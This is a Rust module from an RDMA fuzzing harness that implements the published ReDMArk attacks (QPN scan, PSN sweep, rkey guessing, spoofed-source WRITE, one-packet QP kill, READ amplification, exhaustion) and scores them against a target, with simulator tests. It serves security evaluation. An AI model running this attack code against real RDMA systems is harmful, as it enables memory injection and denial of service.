//! `uroce fuzz attack`: the attacks of ReDMArk (Rothenberger et al.,
//! "ReDMArk: Bypassing RDMA Security Mechanisms", USENIX Security 2021)
//! against any [`Target`].
//!
//! Each attack runs on fresh connections of the configured transport,
//! sends at most the packet budget, and is judged from what the target
//! shows afterwards ([`Observation`]):
//!
//! - **succeeded**: the attacker reached its goal (data landed in the
//!   exposed region, the QP was killed, the QPN was found, the control QP
//!   broke, the target died, the answer outweighed the request > 10x);
//! - **detected**: the goal was not reached, but the victim application
//!   can tell (the fuzzed QP in ERR, an error completion, an async event,
//!   a kernel log line);
//! - **prevented**: neither.
//!
//! What each attacker knows is stated with the attack ([`ATTACKS`]). The
//! packets are made from the [`Conn`] only through the fields the
//! attacker is said to know; the rest of the `Conn` is the harness's.
//! NAKs sent to the attacker are not "detected": the victim does not
//! see them.

use super::case::{Dest, Key, PacketSpec};
use super::diff::answer_kind;
use super::target::{Conn, Observation, Target, TargetError, PATTERN};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::time::{Duration, Instant};
use uroce_provider::types::{QpState, QpType};
use uroce_wire::{AethSyndrome, NakCode, Opcode};

/// How an attack ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    /// Goal not reached, nothing visible to the victim.
    Prevented,
    /// Goal not reached, and the victim can tell.
    Detected,
    /// Goal reached.
    Succeeded,
}

impl std::fmt::Display for Verdict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Verdict::Prevented => "prevented",
            Verdict::Detected => "detected",
            Verdict::Succeeded => "succeeded",
        })
    }
}

/// The result of one attack.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct AttackResult {
    /// The attack's name (as `--which` takes it).
    pub name: String,
    /// How it ended.
    pub verdict: Verdict,
    /// Packets the attacker sent.
    pub packets: u64,
    /// Time taken (set-ups and observations included).
    pub elapsed: Duration,
    /// What happened.
    pub detail: String,
}

/// What to run the attacks with.
#[derive(Clone, Debug)]
pub struct AttackConfig {
    /// Transport of the attacked QP (RC or UC).
    pub qp_type: QpType,
    /// Packets each attack may send at most.
    pub budget: u64,
    /// The spoofed source (default: the fuzzer's address with the last
    /// bit of its last byte flipped).
    pub spoof: Option<IpAddr>,
}

impl Default for AttackConfig {
    fn default() -> AttackConfig {
        AttackConfig {
            qp_type: QpType::Rc,
            budget: 1024,
            spoof: None,
        }
    }
}

/// An attack: what it achieved if it reached its goal.
pub type AttackFn = fn(&mut Attacker<'_>) -> Result<Option<String>, TargetError>;

/// The attacks: name, what the attacker knows, the attack.
pub const ATTACKS: &[(&str, &str, AttackFn)] = &[
    (
        "qpn-scan",
        "target IP and a QPN of its own there (the control QP's); not the QPN",
        qpn_scan,
    ),
    ("psn-sweep", "QPN, rkey, va; not the PSN", psn_sweep),
    (
        "rkey-guess",
        "QPN, PSN, va and another key of the process (the private region's; if that is 0, its own region's on a connection just before)",
        rkey_guess,
    ),
    (
        "spoofed-source",
        "QPN, PSN, rkey, va; sends from an address that is not the peer",
        spoofed_source,
    ),
    ("qp-kill", "QPN, PSN; one packet per connection", qp_kill),
    (
        "read-amplification",
        "QPN, PSN, rkey, va (a client with READ access)",
        read_amplification,
    ),
    (
        "exhaustion",
        "QPN, PSN, rkey, va: floods READs and SENDs",
        exhaustion,
    ),
];

/// The attacks' names.
pub fn names() -> Vec<&'static str> {
    ATTACKS.iter().map(|a| a.0).collect()
}

/// Receive WRs posted on the attacked QP.
const RECVS: u32 = 8;
/// Time the attacker waits for answers to a probe.
const PROBE_US: u32 = 2_000;
/// Time an answer gets when the attacker wants to be sure.
const SURE_US: u32 = 20_000;
/// Bytes an IPv4 and a UDP header add to a RoCEv2 packet.
const IP_UDP: u64 = 28;
/// The byte the attacker writes.
const MARK: u8 = 0xa5;

/// An answer of the target, as the attacker parses it.
#[derive(Clone, Debug)]
struct Answer {
    kind: String,
    psn: u32,
    syndrome: Option<AethSyndrome>,
    bytes: u64,
}

/// The attacker's side of an attack: the target, the connection of the
/// moment, what it sent and what the victim could tell.
pub struct Attacker<'a> {
    t: &'a mut dyn Target,
    cfg: &'a AttackConfig,
    conn: Conn,
    packets: u64,
    bytes_sent: u64,
    /// What the victim could tell.
    noticed: BTreeSet<String>,
    /// What the attacker saw (answers, counts).
    notes: Vec<String>,
}

impl Attacker<'_> {
    /// A fresh connection.
    fn fresh(&mut self) -> Result<(), TargetError> {
        self.conn = self.t.setup(self.cfg.qp_type, RECVS)?;
        Ok(())
    }

    fn left(&self) -> u64 {
        self.cfg.budget.saturating_sub(self.packets)
    }

    /// `op` (an RC opcode) on the connection's transport at the absolute
    /// `psn` (the attacker's choice: the offset from the PSN the target
    /// expects only encodes it); None if the transport has no such
    /// operation.
    fn req(&self, op: Opcode, psn: u32) -> Option<PacketSpec> {
        let base = if self.conn.qp_type == QpType::Uc {
            0x20
        } else {
            0
        };
        let info = Opcode(op.0 | base).info()?;
        let rc = Opcode(op.0).info()?;
        if info.operation != rc.operation || info.position != rc.position {
            return None;
        }
        let off = (psn.wrapping_sub(self.conn.rq_psn) & 0xff_ffff) as i32;
        Some(PacketSpec::new(Opcode(info.code), off))
    }

    /// A 16-byte WRITE of [`MARK`] at the start of the exposed region.
    fn write(&self, psn: u32, key: Key) -> Option<PacketSpec> {
        let mut p = self.req(Opcode::RC_RDMA_WRITE_ONLY, psn)?;
        p.reth = Some((0, key, 16));
        p.payload = (16, MARK);
        Some(p)
    }

    /// A READ of `len` bytes from the start of the exposed region.
    fn read(&self, psn: u32, len: u32) -> Option<PacketSpec> {
        let mut p = self.req(Opcode::RC_RDMA_READ_REQUEST, psn)?;
        p.reth = Some((0, Key::Valid, len));
        Some(p)
    }

    /// Sends `p` from the fuzzer's address (the peer's).
    fn send(&mut self, p: &PacketSpec) {
        if let Some(b) = p.emit(&self.conn) {
            self.t.send(&b);
            self.packets += 1;
            self.bytes_sent += b.len() as u64 + IP_UDP;
        }
    }

    /// The target's answers within `us`.
    fn answers(&mut self, us: u32) -> Vec<Answer> {
        self.t
            .wait(us)
            .iter()
            .map(|b| {
                let p = uroce_wire::packet::parse(b).ok();
                Answer {
                    kind: answer_kind(b),
                    psn: p.as_ref().map_or(0, |p| p.bth.psn.value()),
                    syndrome: p.and_then(|p| p.aeth()).map(|a| a.syndrome),
                    bytes: b.len() as u64 + IP_UDP,
                }
            })
            .collect()
    }

    /// Observes the target, noting what the victim could tell.
    fn observe(&mut self) -> Result<Observation, TargetError> {
        let o = self.t.observe()?;
        let n = &mut self.noticed;
        if !o.alive {
            n.insert("the target died".into());
        }
        if o.qp_state == QpState::Err {
            n.insert("QP in ERR".into());
        }
        if o.completions.iter().any(|c| c.status != 0) {
            n.insert("error completion".into());
        }
        // Informational events (port active, communication established)
        // are not the victim's alarm.
        let alarm = ["error", "violation", "fatal", "catastrophic"];
        n.extend(
            o.events
                .iter()
                .filter(|e| alarm.iter().any(|w| e.to_lowercase().contains(w)))
                .map(|e| format!("event {e}")),
        );
        n.extend(o.log.iter().take(2).map(|l| format!("log: {l}")));
        Ok(o)
    }

    /// Observes the target; whether the exposed region changed.
    fn landed(&mut self) -> Result<bool, TargetError> {
        Ok(self.observe()?.exposed.iter().any(|&b| b != PATTERN))
    }
}

/// The answers, counted by kind ("2 ACK, 1 NAK ...").
fn tally(answers: &[Answer]) -> String {
    let mut m: BTreeMap<&str, usize> = BTreeMap::new();
    for a in answers {
        *m.entry(a.kind.as_str()).or_default() += 1;
    }
    let v: Vec<String> = m.iter().map(|(k, n)| format!("{n} {k}")).collect();
    if v.is_empty() {
        "no answer".into()
    } else {
        v.join(", ")
    }
}

/// Bytes (IP datagrams) of the READ responses among `answers`.
fn read_bytes(answers: &[Answer]) -> u64 {
    answers
        .iter()
        .filter(|x| x.kind == "READ response")
        .map(|x| x.bytes)
        .sum()
}

fn is_ack(a: &Answer) -> bool {
    matches!(a.syndrome, Some(AethSyndrome::Ack { .. }))
}

fn is_nak(a: &Answer) -> bool {
    matches!(
        a.syndrome,
        Some(AethSyndrome::Nak(_) | AethSyndrome::RnrNak { .. })
    )
}

/// QPN scan. The attacker has a QP of its own on the target (the control
/// QP stands in for it: QPNs are handed out in sequence on most devices)
/// and probes outward from its number, as the fuzzed QP's peer, with a
/// zero-length SEND at an arbitrary PSN: an RC responder answers it (an
/// ACK if the PSN falls behind, a NAK sequence error if ahead). An
/// answer (which may be a late one of the probe before) is confirmed by
/// a duplicate SEND at the PSN the answer names.
fn qpn_scan(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
    a.fresh()?;
    let own = a.conn.control_qpn;
    let around = (1u32..=0x80_0000)
        .flat_map(|d| [own.wrapping_add(d), own.wrapping_sub(d)])
        .map(|q| q & 0xff_ffff)
        .filter(|&q| q != 0 && q != own);
    let mut last = Vec::new();
    for q in around {
        if a.left() == 0 {
            break;
        }
        let Some(mut p) = a.req(Opcode::RC_SEND_ONLY, 0) else {
            break;
        };
        p.dest = Dest::Raw(q);
        a.send(&p);
        last.insert(0, q);
        last.truncate(3);
        let Some(ans) = a.answers(PROBE_US).into_iter().next() else {
            continue;
        };
        // The PSN the answer names is (about) the expected one: a
        // SEND just behind it is a duplicate, which is ACKed.
        let dup = match ans.syndrome {
            Some(AethSyndrome::Nak(NakCode::PsnSequenceError)) => ans.psn.wrapping_sub(1),
            _ => ans.psn,
        };
        for &c in &last {
            let Some(mut p) = a.req(Opcode::RC_SEND_ONLY, dup) else {
                break;
            };
            if a.left() == 0 {
                break;
            }
            p.dest = Dest::Raw(c);
            a.send(&p);
            if a.answers(SURE_US).is_empty() {
                continue;
            }
            if c == a.conn.qpn {
                a.observe()?;
                return Ok(Some(format!(
                    "QPN {c:#x} answers, found {} QPNs away from the attacker's",
                    own.abs_diff(c)
                )));
            }
            // Another QP of the target's that takes the fuzzer as its
            // peer: not the one sought, the scan goes on.
            a.notes.push(format!("QPN {c:#x} answers too"));
            break;
        }
    }
    a.observe()?;
    let d = own.abs_diff(a.conn.qpn);
    a.notes.push(format!(
        "not found (the QP was {d} QPNs from the attacker's)"
    ));
    Ok(None)
}

/// PSN sweep: an RDMA WRITE into the exposed region without knowing the
/// PSN. The first WRITE goes out at an arbitrary PSN; an RC responder's
/// answer names the PSN it expects (a NAK sequence error carries it) and
/// the attacker tries it next, then sweeps on from its first guess. The
/// harness looks at the region after 1, 2, 4, ... packets.
fn psn_sweep(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
    a.fresh()?;
    let first = 0u32;
    let mut learned = Vec::new();
    let mut how = String::new();
    let mut n = 0u64;
    let mut guesses = (0u32..0x100_0000).map(|i| first.wrapping_add(i) & 0xff_ffff);
    while a.left() > 0 {
        let psn = match learned.pop() {
            Some(p) => p,
            None => match guesses.next() {
                Some(g) => g,
                None => break,
            },
        };
        let Some(p) = a.write(psn, Key::Valid) else {
            break;
        };
        a.send(&p);
        n += 1;
        let ans = a.answers(PROBE_US);
        if n == 1 {
            for x in ans.iter().rev() {
                match x.syndrome {
                    Some(AethSyndrome::Nak(NakCode::PsnSequenceError)) => learned.push(x.psn),
                    Some(AethSyndrome::Ack { .. }) => {
                        learned.extend([x.psn, x.psn.wrapping_add(1) & 0xff_ffff])
                    }
                    _ => {}
                }
            }
            if let Some(l) = learned.last() {
                how = format!(" (PSN {l:#x} learned from the answer to the first)");
            }
        }
        let acked = ans.iter().any(|x| is_ack(x) && x.psn == psn);
        if (acked || n.is_power_of_two()) && a.landed()? {
            return Ok(Some(format!("the WRITE landed at packet {n}{how}")));
        }
    }
    Ok(a.landed()?
        .then(|| format!("the WRITE landed within {n} packets")))
}

/// Guesses of a key near a leaked one: first neighbours at strides keys
/// are commonly handed out with; then keys made of a neighbouring index
/// in the upper 24 bits and any byte in the lower 8 (kernel rxe's layout:
/// MR index << 8 | an 8-bit random key), index +1 ... +8 (keys handed
/// out later are higher), then -1 ... -8; then the strides again, further
/// out.
fn rkey_guesses(leaked: u32) -> impl Iterator<Item = u32> {
    const STRIDES: [u32; 6] = [1, 0x100, 0x80, 0x1000, 0x10000, 0x100_0000];
    let near = STRIDES.into_iter();
    // Every key of the index `k` MR indexes away (any low byte).
    let index_block =
        move |k: u32| (0..=0xffu32).map(move |b| (leaked.wrapping_add(k << 8) & !0xff) | b);
    let index = (1u32..=8).flat_map(index_block);
    let below = (1u32..=8).flat_map(move |k| index_block(k.wrapping_neg()));
    let far = (2u32..=0x400).flat_map(|k| STRIDES.into_iter().map(move |s| k.wrapping_mul(s)));
    let mut seen = BTreeSet::from([leaked]);
    near.flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)])
        .chain(index)
        .chain(below)
        .chain(far.flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)]))
        .filter(move |g| seen.insert(*g))
}

/// rkey guessing: the attacker knows the QPN, the PSN and the va, and
/// another key of the same process (the private region's, leaked); it
/// WRITEs with the keys next to it. On RC the first wrong key is NAKed
/// (remote access error) and the QP goes to ERR; on UC wrong keys are
/// dropped silently and the guessing goes on.
fn rkey_guess(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
    a.fresh()?;
    let mut leaked = a.conn.private_rkey;
    if leaked == 0 {
        // No key to leak there (rxe gives a region without remote
        // access rkey 0): the key of a connection of the attacker's own,
        // set up just before the victim's.
        leaked = a.conn.rkey;
        a.fresh()?;
        a.notes
            .push("leak: the key of a connection just before".into());
    }
    let right = rkey_guesses(leaked)
        .take(1 << 16)
        .position(|g| g == a.conn.rkey)
        .map_or("not among the first 65536 guesses".into(), |i| {
            format!("guess {}", i + 1)
        });
    let right = format!("{right}; leaked {:#x}, right {:#x}", leaked, a.conn.rkey);
    let mut psn = a.conn.rq_psn;
    let mut n = 0u64;
    let mut why = String::new();
    for g in rkey_guesses(leaked) {
        if a.left() == 0 {
            break;
        }
        let Some(p) = a.write(psn, Key::Raw(g)) else {
            break;
        };
        a.send(&p);
        n += 1;
        let ans = a.answers(PROBE_US);
        let acked = ans.iter().any(|x| is_ack(x) && x.psn == psn);
        if (acked || n.is_power_of_two()) && a.landed()? {
            let at = if acked {
                format!("rkey {g:#x} found at guess {n}")
            } else {
                format!("the WRITE landed by guess {n} (the right key: {right})")
            };
            return Ok(Some(at));
        }
        if let Some(x) = ans.iter().find(|x| is_nak(x)) {
            why = format!(", {} at guess {n}: the QP is gone", x.kind);
            break;
        }
        if a.conn.qp_type == QpType::Uc {
            psn = psn.wrapping_add(1) & 0xff_ffff;
        }
    }
    if a.landed()? {
        return Ok(Some(format!("the WRITE landed within {n} guesses")));
    }
    a.notes
        .push(format!("guesses: {n}{why} (the right key: {right})"));
    Ok(None)
}

/// Injection with a spoofed source: a valid RDMA WRITE (right QPN, PSN,
/// rkey, va) from an address that is not the QP's peer.
fn spoofed_source(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
    a.fresh()?;
    let src = a.cfg.spoof.unwrap_or(match a.conn.fuzzer {
        IpAddr::V4(v) => std::net::Ipv4Addr::from(u32::from(v) ^ 1).into(),
        IpAddr::V6(v) => std::net::Ipv6Addr::from(u128::from(v) ^ 1).into(),
    });
    let spoofed = Conn {
        fuzzer: src,
        ..a.conn.clone()
    };
    if let Some(b) = a
        .write(a.conn.rq_psn, Key::Valid)
        .and_then(|p| p.emit(&spoofed))
    {
        a.t.send_from(src, &b)?;
        a.packets += 1;
    }
    let _ = a.answers(PROBE_US);
    if a.landed()? {
        let why = if src == a.conn.fuzzer {
            "(the peer's own address: the raw path works)"
        } else {
            "the source is not checked"
        };
        return Ok(Some(format!("a WRITE from {src} landed: {why}")));
    }
    a.notes.push(format!("a WRITE from {src} did not land"));
    Ok(None)
}

/// A packet at a PSN (None: not on the connection's transport).
type MakePacket = fn(&Attacker<'_>, u32) -> Option<PacketSpec>;

/// The single packets that may kill a QP.
const KILLS: &[(&str, MakePacket)] = &[
    ("WRITE, private key", |a, psn| a.write(psn, Key::Private)),
    ("WRITE past the end", |a, psn| {
        let mut p = a.write(psn, Key::Valid)?;
        p.reth = Some((i64::from(a.conn.len) - 8, Key::Valid, 16));
        Some(p)
    }),
    ("READ past the end", |a, psn| {
        let mut p = a.read(psn, 64)?;
        p.reth = Some((i64::from(a.conn.len) - 8, Key::Valid, 64));
        Some(p)
    }),
    ("misaligned atomic", |a, psn| {
        let mut p = a.req(Opcode::RC_FETCH_ADD, psn)?;
        p.atomic = Some((1, Key::Valid, 1, 0));
        Some(p)
    }),
    ("WRITE MIDDLE alone", |a, psn| {
        let mut p = a.req(Opcode::RC_RDMA_WRITE_MIDDLE, psn)?;
        p.payload = (a.conn.mtu.min(4096) as u16, MARK);
        Some(p)
    }),
    ("reserved opcode", |a, psn| {
        let mut p = a.req(Opcode::RC_SEND_ONLY, psn)?;
        p.raw_opcode = Some(p.opcode & 0xe0 | 0x18);
        Some(p)
    }),
    ("PSN far ahead", |a, psn| {
        a.req(Opcode::RC_SEND_ONLY, psn.wrapping_add(0x40_0000))
    }),
];

/// One-packet QP kill: each packet of [`KILLS`] on a fresh connection;
/// killed if the QP ends in ERR or the control QP breaks.
fn qp_kill(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
    let (mut killed, mut not) = (Vec::new(), Vec::new());
    for (name, make) in KILLS {
        if a.left() == 0 {
            break;
        }
        a.fresh()?;
        let Some(p) = make(a, a.conn.rq_psn) else {
            continue;
        };
        a.send(&p);
        let ans = tally(&a.answers(PROBE_US));
        let o = a.observe()?;
        let dead = o.qp_state == QpState::Err || !o.control_ok || !o.alive;
        let v = if dead { &mut killed } else { &mut not };
        v.push(format!("{name} ({ans})"));
    }
    // A QP in ERR is this attack's goal, not a sign it was caught.
    a.noticed.remove("QP in ERR");
    let survived = format!("survived: {}", not.join("; "));
    if killed.is_empty() {
        a.notes.push(survived);
        return Ok(None);
    }
    Ok(Some(format!(
        "killed by: {}; {survived}",
        killed.join("; ")
    )))
}

/// READ amplification: one READ request of the whole exposed region;
/// the factor is the bytes (IP datagrams) answered over the bytes sent.
/// Then a READ one byte longer than the region, which must be NAKed.
fn read_amplification(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
    a.fresh()?;
    let (psn, len, mtu) = (a.conn.rq_psn, a.conn.len, a.conn.mtu.max(1));
    let Some(p) = a.read(psn, len) else {
        a.notes.push("UC has no READ".into());
        return Ok(None);
    };
    a.send(&p);
    let sent = a.bytes_sent;
    let got = read_bytes(&a.answers(SURE_US));
    let factor = got as f64 / sent.max(1) as f64;
    let over = a.read(
        psn.wrapping_add(len.div_ceil(mtu)) & 0xff_ffff,
        len.saturating_add(1),
    );
    if let Some(p) = over {
        a.send(&p);
    }
    let over_ans = a.answers(SURE_US);
    let over_got = read_bytes(&over_ans);
    a.observe()?;
    let text = format!(
        "READ of {len} B: {got} B answered for {sent} B sent, {factor:.0}x; READ of {} B: {}{}",
        len.saturating_add(1),
        tally(&over_ans),
        if over_got > 0 {
            " (answered past the region!)"
        } else {
            ""
        }
    );
    if factor > 10.0 || over_got > 0 {
        return Ok(Some(text));
    }
    a.notes.push(text);
    Ok(None)
}

/// Resource exhaustion: READ requests far beyond the responder's
/// outstanding-READ limit (max_dest_rd_atomic, 4 on the agent and the
/// simulator) without waiting, then SENDs far beyond the posted receives
/// (RNR). Succeeded if the control QP breaks or the target dies.
fn exhaustion(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
    a.fresh()?;
    let n = (a.cfg.budget / 2).min(256) as u32;
    let mut psn = a.conn.rq_psn;
    let mut reads = 0;
    for _ in 0..n {
        let Some(p) = a.read(psn, a.conn.mtu.min(a.conn.len)) else {
            break;
        };
        a.send(&p);
        reads += 1;
        psn = psn.wrapping_add(1) & 0xff_ffff;
    }
    let ans_r = tally(&a.answers(SURE_US));
    let sends = n.min(u32::try_from(a.left()).unwrap_or(u32::MAX));
    for _ in 0..sends {
        let Some(mut p) = a.req(Opcode::RC_SEND_ONLY, psn) else {
            break;
        };
        p.payload = (64, MARK);
        a.send(&p);
        psn = psn.wrapping_add(1) & 0xff_ffff;
    }
    let ans_s = tally(&a.answers(SURE_US));
    let o = a.observe()?;
    let text = format!("{reads} READs: {ans_r}; {sends} SENDs on {RECVS} receives: {ans_s}");
    if !o.alive || !o.control_ok {
        return Ok(Some(format!("{text}; the control QP broke")));
    }
    a.notes.push(text);
    Ok(None)
}

/// Runs the attack `name` against `target`.
pub fn run_one(
    target: &mut dyn Target,
    cfg: &AttackConfig,
    name: &str,
) -> Result<AttackResult, TargetError> {
    let Some(&(name, _, attack)) = ATTACKS.iter().find(|a| a.0 == name) else {
        return Err(TargetError::Io(format!(
            "unknown attack {name:?} ({})",
            names().join(", ")
        )));
    };
    let start = Instant::now();
    let conn = target.setup(cfg.qp_type, RECVS)?;
    let mut a = Attacker {
        t: target,
        cfg,
        conn,
        packets: 0,
        bytes_sent: 0,
        noticed: BTreeSet::new(),
        notes: Vec::new(),
    };
    let goal = catch_unwind(AssertUnwindSafe(|| attack(&mut a))).unwrap_or_else(|p| {
        Ok(Some(format!(
            "the target panicked: {}",
            super::panic_text(&*p)
        )))
    })?;
    let verdict = match &goal {
        Some(_) => Verdict::Succeeded,
        None if !a.noticed.is_empty() => Verdict::Detected,
        None => Verdict::Prevented,
    };
    let mut detail: Vec<String> = goal.into_iter().chain(a.notes).collect();
    if !a.noticed.is_empty() {
        let seen: Vec<&str> = a.noticed.iter().map(|s| s.as_str()).collect();
        detail.push(format!("the victim sees: {}", seen.join(", ")));
    }
    let detail = detail.join("; ");
    Ok(AttackResult {
        name: name.into(),
        verdict,
        packets: a.packets,
        elapsed: start.elapsed(),
        detail,
    })
}

/// Runs the attacks `which` (all if empty) in order; `each` sees every
/// result as it comes.
pub fn run(
    target: &mut dyn Target,
    cfg: &AttackConfig,
    which: &[&str],
    mut each: impl FnMut(&AttackResult),
) -> Result<Vec<AttackResult>, TargetError> {
    let all = names();
    let which = if which.is_empty() { &all[..] } else { which };
    let mut out = Vec::new();
    for name in which {
        let r = run_one(target, cfg, name)?;
        each(&r);
        out.push(r);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sim::SimTarget;
    use Verdict::*;

    fn attacks(t: &mut dyn Target, qp_type: QpType) -> Vec<AttackResult> {
        let cfg = AttackConfig {
            qp_type,
            ..AttackConfig::default()
        };
        run(t, &cfg, &[], |_| {}).expect("the attacks run")
    }

    fn verdicts(r: &[AttackResult]) -> Vec<(&str, Verdict)> {
        r.iter().map(|r| (r.name.as_str(), r.verdict)).collect()
    }

    /// uroce's own QP machines: what ReDMArk's attacks achieve on RC and
    /// UC. Random 32-bit rkeys and the source-address check hold; the PSN
    /// leaks through the NAK sequence error (RC) or does not matter (UC),
    /// one packet kills an RC QP (as IBA has it), a READ amplifies.
    #[test]
    fn uroce_verdicts() {
        let rc = attacks(&mut SimTarget::new(1, None), QpType::Rc);
        assert_eq!(
            verdicts(&rc),
            [
                ("qpn-scan", Succeeded),
                ("psn-sweep", Succeeded),
                ("rkey-guess", Detected),
                ("spoofed-source", Prevented),
                ("qp-kill", Succeeded),
                ("read-amplification", Succeeded),
                ("exhaustion", Prevented),
            ],
            "{rc:#?}"
        );
        // The scan walks out from the control QP (0x222) to 0x111, two
        // probes per step and one to confirm; the PSN is learned from
        // the first NAK; the first wrong key ends the QP.
        assert_eq!(rc[0].packets, 2 * 0x111 + 1, "{:?}", rc[0]);
        assert!(rc[0].detail.contains("QPN 0x111 answers,"), "{:?}", rc[0]);
        assert_eq!(rc[1].packets, 2, "{:?}", rc[1]);
        assert_eq!(rc[2].packets, 1, "{:?}", rc[2]);
        assert!(
            rc[4].detail.contains("survived: reserved opcode"),
            "{:?}",
            rc[4]
        );
        let uc = attacks(&mut SimTarget::new(1, None), QpType::Uc);
        assert_eq!(
            verdicts(&uc),
            [
                ("qpn-scan", Prevented),
                ("psn-sweep", Succeeded),
                ("rkey-guess", Prevented),
                ("spoofed-source", Prevented),
                ("qp-kill", Prevented),
                ("read-amplification", Prevented),
                ("exhaustion", Prevented),
            ],
            "{uc:#?}"
        );
        assert_eq!(uc[1].packets, 1, "UC takes any PSN on a new message");
        assert_eq!(uc[2].packets, 1024, "the budget");
        for r in rc.iter().chain(&uc) {
            assert!(r.packets <= 1024, "{r:?}");
        }
    }

    /// The simulated target, modified: keys handed out in sequence (the
    /// exposed region's is the leaked one plus 1, as on devices that
    /// number their keys), or a control QP that breaks under load.
    struct Modified {
        inner: SimTarget,
        sequential_keys: bool,
        breaks_after: Option<u64>,
        sent: u64,
    }

    impl Target for Modified {
        fn name(&self) -> String {
            "modified sim".into()
        }
        fn setup(&mut self, qp_type: QpType, recvs: u32) -> Result<Conn, TargetError> {
            self.sent = 0;
            let c = self.inner.setup(qp_type, recvs)?;
            Ok(Conn {
                private_rkey: if self.sequential_keys {
                    c.rkey.wrapping_sub(1)
                } else {
                    c.private_rkey
                },
                ..c
            })
        }
        fn send(&mut self, packet: &[u8]) {
            self.sent += 1;
            self.inner.send(packet)
        }
        fn send_from(&mut self, src: IpAddr, packet: &[u8]) -> Result<(), TargetError> {
            self.inner.send_from(src, packet)
        }
        fn wait(&mut self, us: u32) -> Vec<Vec<u8>> {
            self.inner.wait(us)
        }
        fn observe(&mut self) -> Result<Observation, TargetError> {
            let o = self.inner.observe()?;
            let broken = self.breaks_after.is_some_and(|n| self.sent > n);
            Ok(Observation {
                control_ok: o.control_ok && !broken,
                ..o
            })
        }
    }

    /// The verdicts change with the target: predictable keys are found,
    /// a control QP that breaks under a flood is exhaustion.
    #[test]
    fn a_weaker_target_changes_the_verdicts() {
        let mut t = Modified {
            inner: SimTarget::new(1, None),
            sequential_keys: true,
            breaks_after: Some(300),
            sent: 0,
        };
        let cfg = AttackConfig::default();
        let which = ["rkey-guess", "exhaustion"];
        let r = run(&mut t, &cfg, &which, |_| {}).expect("runs");
        assert_eq!(
            verdicts(&r),
            [("rkey-guess", Succeeded), ("exhaustion", Succeeded)]
        );
        assert_eq!(r[0].packets, 1, "{:?}", r[0]);
        // Keys laid out as rxe's (index << 8 | a random byte): a key three
        // indexes up (the agent registers three regions a connection) is
        // within 1024 guesses.
        let g: Vec<u32> = rkey_guesses(0x1234_5607).take(1024).collect();
        assert!(
            g.contains(&0x1234_5900) && g.contains(&0x1234_59ff),
            "{g:x?}"
        );
        assert_eq!(g.len(), g.iter().collect::<BTreeSet<_>>().len());
        let uc = AttackConfig {
            qp_type: QpType::Uc,
            ..cfg
        };
        let r = run(&mut t, &uc, &["rkey-guess"], |_| {}).expect("runs");
        assert_eq!(verdicts(&r), [("rkey-guess", Succeeded)], "{r:?}");
        assert!(run(&mut t, &uc, &["no-such"], |_| {}).is_err());
        // "Spoofing" the peer's own address: the path works, the WRITE lands.
        let peer = AttackConfig {
            spoof: Some(t.setup(QpType::Rc, 1).expect("sim").fuzzer),
            ..AttackConfig::default()
        };
        let r = run(&mut t, &peer, &["spoofed-source"], |_| {}).expect("runs");
        assert_eq!(verdicts(&r), [("spoofed-source", Succeeded)], "{r:?}");
    }

    /// A spoofed datagram carries the header its ICRC was computed for.
    #[test]
    fn spoofed_datagrams_verify() {
        use uroce_wire::frame::{parse_frame, LinkType};
        let mut t = SimTarget::new(1, None);
        let conn = t.setup(QpType::Rc, 1).expect("sim");
        let src = std::net::Ipv4Addr::new(10, 77, 0, 9);
        let spoofed = Conn {
            fuzzer: src.into(),
            ..conn.clone()
        };
        let mut p = PacketSpec::new(Opcode::RC_RDMA_WRITE_ONLY, 0);
        p.reth = Some((0, Key::Valid, 8));
        p.payload = (8, MARK);
        let bytes = p.emit(&spoofed).expect("emits");
        let IpAddr::V4(dst) = conn.target else {
            panic!("v4")
        };
        let d = crate::live::spoofed_datagram(src, dst, &bytes).expect("builds");
        assert_eq!(
            (d[0], d[6], d[4], d[5], d[8], d[9]),
            (0x45, 0x40, 0, 0, 64, 17)
        );
        assert_eq!(&d[20..24], &[0x12, 0xb7, 0x12, 0xb7]);
        assert_eq!(&d[26..28], &[0, 0]);
        let f = parse_frame(LinkType::RawIp, &d)
            .expect("parses")
            .expect("RoCEv2");
        f.verify_icrc()
            .expect("the ICRC is right for the spoofed header");
        // From the real peer's address the same bytes do not verify.
        assert!(uroce_wire::icrc::verify(&conn.ip_context(), &bytes).is_err());
    }
}
